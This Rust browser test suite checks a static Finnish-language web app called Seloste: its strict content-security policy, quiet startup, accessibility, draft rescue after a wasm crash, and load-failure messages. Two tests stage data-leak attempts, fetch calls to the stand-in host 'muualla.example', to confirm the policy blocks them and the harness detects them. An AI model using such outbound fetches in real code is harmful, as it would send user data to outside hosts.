//! What holds before the app does anything: it opens, quietly, under its policy, from a path of a static host.
//!
//! Covers: index.html, boot.js, the build.

use crate::harness::axe::assert_accessible;
use crate::harness::driver::Setup;
use crate::harness::run::{browse, visit};
use crate::harness::server::{APP_PATH, Server};
use crate::harness::tools;
use serde_json::{Value, json};

/// What the policy must say; `connect-src` is the promise that nothing leaves.
const POLICY: [&str; 8] = [
    "default-src 'none'",
    "script-src 'self' 'wasm-unsafe-eval'",
    "style-src 'self'",
    "img-src 'self' data:",
    "font-src 'self'",
    "connect-src 'self'",
    "worker-src 'self'",
    "form-action 'none'",
];

#[tokio::test]
async fn the_page_opens_quietly() {
    browse(Setup::desktop(), async |page| {
        assert!(page.title().await.starts_with("Seloste"));
        page.wait_until("performance.getEntriesByName('seloste:start').length === 1").await;
        assert!(!page.find("#crash").await.is_displayed().await.unwrap());
        // Either the app stands there or, before it, the static shell.
        page.wait_until("document.querySelector('#app > *, #shell')?.checkVisibility()").await;
        assert!(page.server.requests().iter().all(|path| path.starts_with(APP_PATH)));
        page.assert_fits().await;
    })
    .await;
}

#[tokio::test]
async fn the_policy_is_strict_and_holds() {
    browse(Setup::desktop().expecting_errors(), async |page| {
        let policy = page.find("meta[http-equiv='Content-Security-Policy']").await;
        let policy = policy.attr("content").await.unwrap().unwrap();
        let parts: Vec<_> = policy.split(';').map(str::trim).collect();
        for part in POLICY {
            assert!(parts.contains(&part), "{part} is missing from {policy}");
        }
        let attempt = "const done = arguments[0]; fetch('https://muualla.example/?nimi=x', { mode: 'no-cors' }) \
            .then(() => done('sent'), () => done('stopped'))";
        assert_eq!(page.eval_async(attempt, vec![]).await, json!("stopped"));
        // `browse` asserts that the attempt did not reach the proxy either: the policy stopped it, not the network.
    })
    .await;
}

/// Without this, "nobody else was asked" could mean that nobody listened. A worker is not under the policy of its page's
/// `<meta>`, therefore it is heard too.
#[tokio::test]
async fn what_leaves_is_heard() {
    let folder = tools::output().join("leaky");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("index.html"), "<script>new Worker('worker.js')</script>").unwrap();
    std::fs::write(folder.join("worker.js"), "fetch('https://muualla.example/')").unwrap();
    let server = Server::start(&[("/", &folder)]);
    visit(Setup::desktop(), server, "/", async |page| {
        page.wait_until("performance.now() > 1000").await;
        assert_eq!(page.server.foreign_requests(), ["CONNECT muualla.example:443"]);
    })
    .await;
}

#[tokio::test]
async fn the_shell_is_accessible_on_a_phone() {
    browse(Setup::phone(), async |page| {
        page.wait_until("performance.getEntriesByName('seloste:start').length === 1").await;
        assert_accessible(page, "the first page").await;
        page.assert_fits().await;
    })
    .await;
}

/// What the window hears when wasm panics. (An error thrown by a test's own script reaches it without its cause.)
const PANIC: &str =
    "dispatchEvent(new ErrorEvent('error', { error: new WebAssembly.RuntimeError('unreachable') }))";

#[tokio::test]
async fn after_a_crash_the_drafts_can_be_taken_away() {
    browse(Setup::desktop().expecting_errors(), async |page| {
        page.wait_until("performance.getEntriesByName('seloste:start').length === 1").await;
        page.store("seloste:draft:a", "{\"name\":\"Ääkkönen\"}").await;
        page.store("seloste:draft:b", "vioittunut {").await;
        page.store("seloste:settings", "{}").await;
        page.eval(PANIC, vec![]).await;
        page.wait_text("Luonnoksesi on tallessa").await;
        page.wait_text("Ditt utkast finns kvar").await;
        page.wait_text("Your draft is saved").await;
        assert_eq!(page.focused().await, "crash-title");
        assert_accessible(page, "the crash block").await;
        page.click("Lataa luonnokset tiedostona").await;
        let file = page.download("json").await;
        assert_eq!(file.name, "seloste-luonnokset.json");
        let rescued: Value = serde_json::from_slice(&file.bytes).unwrap();
        let drafts =
            json!({ "seloste:draft:a": "{\"name\":\"Ääkkönen\"}", "seloste:draft:b": "vioittunut {" });
        assert_eq!(rescued["drafts"], drafts);
        page.click("Lataa sivu uudelleen").await;
        page.wait_no_text("Luonnoksesi on tallessa").await;
    })
    .await;
}

#[tokio::test]
async fn a_crash_promises_no_draft_that_is_not_there() {
    browse(Setup::desktop().without_storage().expecting_errors(), async |page| {
        let blocked = "try { localStorage.length; return false } catch { return true }";
        assert_eq!(page.eval(blocked, vec![]).await, json!(true));
        page.eval(PANIC, vec![]).await;
        page.wait_text("ei ole tallennettu luonnoksia").await;
        page.wait_no_text("Lataa luonnokset tiedostona").await;
    })
    .await;
}

#[tokio::test]
async fn somebody_elses_error_is_no_crash() {
    browse(Setup::desktop().expecting_errors(), async |page| {
        let other = "dispatchEvent(new ErrorEvent('error', { error: new Error('an extension failed') }))";
        page.eval(other, vec![]).await;
        assert!(!page.find("#crash").await.is_displayed().await.unwrap());
    })
    .await;
}

#[tokio::test]
async fn when_the_wasm_never_arrives_the_page_says_so() {
    browse(Setup::desktop().expecting_errors(), async |page| {
        page.cdp("Network.enable", json!({})).await;
        page.cdp("Network.setBlockedURLs", json!({ "urls": ["*.wasm"] })).await;
        page.reload().await;
        page.wait_text("Ohjelma pysähtyi virheeseen").await;
        page.wait_no_text("Avataan…").await;
    })
    .await;
}
